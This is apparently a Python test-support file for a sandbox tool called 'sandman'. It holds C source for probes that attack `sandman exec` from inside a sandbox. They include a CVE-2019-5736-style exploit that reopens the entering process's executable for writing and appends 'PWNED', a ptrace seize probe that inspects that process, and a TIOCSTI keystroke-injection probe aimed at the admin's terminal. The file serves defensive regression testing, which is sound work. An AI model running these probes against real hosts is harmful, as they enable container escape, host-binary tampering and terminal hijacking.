"""C sources of the static probes that attack `sandman exec` from inside a sandbox.

Each is built with `gcc -static` at test time (see test_exec.py) and bind-mounted read-only at
/opt/probes. The long-running ones are a sandbox's init: they scan /proc for a process that is
not the sandbox's (its exe is neither busybox nor the probe: the entering process of an `exec`)
and print what they managed, one line per event, unbuffered, to the sandbox's log.
"""

from __future__ import annotations

COMMON = r"""
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static char self_exe[512];
#pragma GCC diagnostic ignored "-Wunused-function"

/* What `link` leads to, in `target`, if it is neither busybox nor this probe; 0 otherwise. */
static int held_foreign(const char *link, char *target, size_t size) {
    ssize_t n = readlink(link, target, size - 1);
    if (n < 0) return 0;
    target[n] = 0;
    return strcmp(target, "/bin/busybox") != 0 && strcmp(target, self_exe) != 0;
}

/* The exe of a process that is not the sandbox's own, in `target`; 0 if none. */
static int foreign(int pid, char *target, size_t size) {
    char path[64];
    errno = 0;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    return held_foreign(path, target, size);
}

static void start(void) {
    setvbuf(stdout, NULL, _IONBF, 0);
    ssize_t n = readlink("/proc/self/exe", self_exe, sizeof self_exe - 1);
    self_exe[n < 0 ? 0 : n] = 0;
    printf("ready\n");
}

#define EACH_PID(pid) \
    DIR *dir = opendir("/proc"); \
    for (struct dirent *e; dir && (e = readdir(dir));) \
        for (int pid = atoi(e->d_name), once = 1; once; once = 0) \
            if (pid > 1 && pid != getpid())
#define END_EACH_PID if (dir) closedir(dir);
"""

# CVE-2019-5736: hold the entering process's /proc/PID/exe (O_PATH) and, once it has exec'd,
# reopen it for writing through /proc/self/fd and append to it.
EXE_GRAB_C = (
    COMMON
    + r"""
#define MAX 64
int main(void) {
    int fds[MAX], done[MAX], count = 0, denied = 0;
    dev_t devs[MAX]; ino_t inos[MAX];
    start();
    for (;;) {
        EACH_PID(pid) {
            char target[512], path[64];
            if (count >= MAX) continue;
            if (!foreign(pid, target, sizeof target)) {
                if ((errno == EACCES || errno == EPERM) && !denied++)
                    printf("exe denied: %s\n", strerror(errno));
                continue;
            }
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int fd = open(path, O_PATH | O_CLOEXEC);
            struct stat st;
            if (fd < 0 || fstat(fd, &st) != 0) { if (fd >= 0) close(fd); continue; }
            /* What the fd holds, not what the link said a moment before: the process may have
             * exec'd the sandbox's own busybox in between (seen on a slow emulated guest). */
            snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
            if (!held_foreign(path, target, sizeof target)) { close(fd); continue; }
            int known = 0;
            for (int i = 0; i < count; i++) known |= devs[i] == st.st_dev && inos[i] == st.st_ino;
            if (known) { close(fd); continue; }
            printf("opened %s\n", target);
            devs[count] = st.st_dev; inos[count] = st.st_ino; done[count] = 0; fds[count++] = fd;
        }
        END_EACH_PID
        for (int i = 0; i < count; i++) {
            if (done[i]) continue;
            char path[64];
            snprintf(path, sizeof path, "/proc/self/fd/%d", fds[i]);
            int w = open(path, O_WRONLY | O_APPEND);
            if (w < 0 && errno == ETXTBSY) continue;  /* still running: try again later */
            done[i] = 1;
            if (w < 0) { printf("reopen refused: %s\n", strerror(errno)); continue; }
            if (write(w, "PWNED", 5) == 5) printf("wrote\n");
            else printf("write refused: %s\n", strerror(errno));
            close(w);
        }
        sched_yield();
    }
}
"""
)

# Attach to the entering process before it execs, and report what it is while stopped.
PTRACE_GRAB_C = (
    COMMON
    + r"""
static void report(int pid, const char *exe) {
    char path[64], line[256], out[512] = "";
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    FILE *f = fopen(path, "r");
    while (f && fgets(line, sizeof line, f)) {
        if (!strncmp(line, "Uid:", 4) || !strncmp(line, "CapEff:", 7)
            || !strncmp(line, "Seccomp:", 8) || !strncmp(line, "NoNewPrivs:", 11)) {
            line[strcspn(line, "\n")] = 0;
            strncat(out, line, sizeof out - strlen(out) - 2);
            strcat(out, ";");
        }
    }
    if (f) fclose(f);
    /* and the fds it holds: nothing of the host but its stdio */
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *fds = opendir(path);
    strcat(out, "fds:");
    for (struct dirent *e; fds && (e = readdir(fds));)
        if (e->d_name[0] != '.') {
            strncat(out, e->d_name, sizeof out - strlen(out) - 2);
            strcat(out, ",");
        }
    if (fds) closedir(fds);
    printf("attached|%s|exe=%s\n", out, exe);
}

int main(void) {
    int refused = 0;
    start();
    for (;;) {
        EACH_PID(pid) {
            char target[512];
            if (!foreign(pid, target, sizeof target)) continue;
            /* SEIZE and INTERRUPT, not ATTACH: no SIGSTOP is left pending to stop the command
               after the detach. */
            if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0) {
                if (!refused++) printf("attach refused: %s\n", strerror(errno));
                continue;
            }
            ptrace(PTRACE_INTERRUPT, pid, 0, 0);
            for (int status; waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status);) {
                if (status >> 16 == PTRACE_EVENT_STOP) {
                    report(pid, target);
                    ptrace(PTRACE_DETACH, pid, 0, 0);
                    break;
                }
                ptrace(PTRACE_CONT, pid, 0, WSTOPSIG(status));  /* pass a signal on */
            }
        }
        END_EACH_PID
        sched_yield();
    }
}
"""
)

# Push a keystroke into whatever terminal the command was given (the admin's, if any).
TIOCSTI_C = (
    COMMON
    + r"""
int main(void) {
    for (int fd = 0; fd < 3; fd++) {
        char c = '#';
        int r = ioctl(fd, TIOCSTI, &c);
        printf("fd %d: %s\n", fd, r == 0 ? "injected" : strerror(errno));
    }
    return 0;
}
"""
)

SOURCES = {"exe_grab": EXE_GRAB_C, "ptrace_grab": PTRACE_GRAB_C, "tiocsti": TIOCSTI_C}
